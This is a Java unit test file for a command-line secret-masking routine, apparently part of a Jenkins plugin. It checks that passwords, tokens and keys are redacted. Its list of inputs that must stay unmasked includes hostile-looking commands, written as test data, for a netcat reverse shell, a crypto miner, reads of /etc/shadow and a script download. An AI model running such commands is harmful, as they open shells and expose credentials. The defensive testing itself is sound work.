package io.jenkins.plugins.qualysfargate.sidecar.process;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;

import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ArgumentMaskTest {

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    app,--password,SECRET,x            | app,--password,***,x
                    app,--password=SECRET              | app,--password=***
                    app,--db-password,-SECRET          | app,--db-password,***
                    app,--password,--verbose           | app,--password,--verbose
                    java,-Dspring.datasource.password=SECRET,-jar,a.jar | java,-Dspring.datasource.password=***,-jar,a.jar
                    env,AWS_SECRET_ACCESS_KEY=SECRET,sh | env,AWS_SECRET_ACCESS_KEY=***,sh
                    env,PGPASSWORD=SECRET,psql         | env,PGPASSWORD=***,psql
                    app,--api-key,SECRET               | app,--api-key,***
                    app,--token,SECRET                 | app,--token,***
                    app,--client_secret=SECRET         | app,--client_secret=***
                    mysql,-uroot,-pSECRET,shop         | mysql,-uroot,-p***,shop
                    mysql,-p,shop                      | mysql,-p,shop
                    /usr/bin/sshpass,-p,SECRET,ssh,h   | /usr/bin/sshpass,-p,***,ssh,h
                    sshpass,-pSECRET,ssh,h             | sshpass,-p***,ssh,h
                    redis-cli,-a,SECRET,ping           | redis-cli,-a,***,ping
                    curl,-u,me:SECRET,http://h/        | curl,-u,***,http://h/
                    curl,-H,Authorization: Bearer SECRET,http://h | curl,-H,Authorization: ***,http://h
                    curl,-H,X-Api-Key: SECRET          | curl,-H,X-Api-Key: ***
                    curl,https://me:SECRET@h/p?q=1     | curl,https://me:***@h/p?q=1
                    git,clone,https://0123456789abcdefSECRET@h/r | git,clone,https://***@h/r
                    curl,https://h/p?access_token=SECRET&x=1 | curl,https://h/p?access_token=***&x=1
                    curl,https://h/o?X-Amz-Signature=SECRET&x=1 | curl,https://h/o?X-Amz-Signature=***&x=1
                    sh,-c,app --password SECRET && ls  | sh,-c,app --password *** && ls
                    sh,-c,PASSWORD='SECRET x' app      | sh,-c,PASSWORD=*** app
                    app,{"password": "SECRET"}         | app,{"password": "***"}
                    openssl,-passin,pass:SECRET        | openssl,-passin,pass:***
                    app,eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJTRUNSRVQifQ.SECRET | app,***
                    app,AKIAIOSFODNN7EXAMPLE           | app,***
                    app,ghp_0123456789abcdef0123456789SECRET | app,***
                    """)
    void shouldHideSecret(String words, String masked) {
        assertThat(ArgumentMask.mask(split(words))).isEqualTo(split(masked));
        assertThat(masked).doesNotContain("SECRET ").doesNotContain("=SECRET");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "nc,-e,/bin/sh,203.0.113.9,4444",
                "xmrig,-o,stratum+tcp://pool.invalid:3333,-u,wallet",
                "app,--password-file,/run/secrets/db",
                "app,--token-type=jwt",
                "compass,--bypass=true,passive",
                "ls,-l,/etc/passwd",
                "cat,/etc/shadow",
                "git,clone,ssh://git@host/repo",
                "curl,-o,x.sh,http://h/x.sh",
                "docker,run,token-service:1.2",
                "sh,-c,chmod 600 ~/.ssh/authorized_keys",
                "''"
            })
    void shouldLeaveWhatIsNoSecret(String words) {
        assertThat(ArgumentMask.mask(split(words))).isEqualTo(split(words));
    }

    @Test
    void shouldHideKeysOfManyLines() {
        String key = "-----BEGIN RSA PRIVATE KEY-----\nSECRET\nSECRET\n-----END RSA PRIVATE KEY-----\n";

        assertThat(ArgumentMask.mask(List.of("sh", "-c", "echo '" + key + "'")))
                .containsExactly("sh", "-c", "echo '***");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "password",
                "-",
                "a-",
                "token.",
                "--",
                "://",
                "--password ",
                "eyJ.",
                "secret\"",
                "a:",
                "pass",
                "\\",
                " "
            })
    void shouldNotBeSlowedByAnyText(String piece) {
        String word = piece.repeat((32 << 10) / piece.length());

        assertTimeout(Duration.ofSeconds(1), () -> ArgumentMask.mask(List.of("app", word)));
    }

    private static List<String> split(String words) {
        return Arrays.asList(words.strip().split(",", -1));
    }
}
